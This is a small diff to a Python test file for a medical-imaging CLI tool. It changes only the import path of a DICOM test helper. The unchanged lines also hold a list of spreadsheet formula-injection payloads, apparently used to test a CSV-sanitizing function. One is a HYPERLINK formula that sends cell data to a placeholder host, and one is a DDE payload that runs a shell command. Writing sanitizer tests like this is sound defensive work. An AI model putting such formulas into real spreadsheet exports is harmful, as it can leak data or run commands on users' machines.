@@ -11,7 +11,7 @@ import pytest
 from typer.testing import CliRunner
 
 from pneumoseg.util.csvsafe import safe_cell
-from tests.data.dicom_files import write_dicom
+from tests.helpers.dicom import write_dicom
 
 EVIL = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "@SUM(A1:A9)", "-2+3"]
 
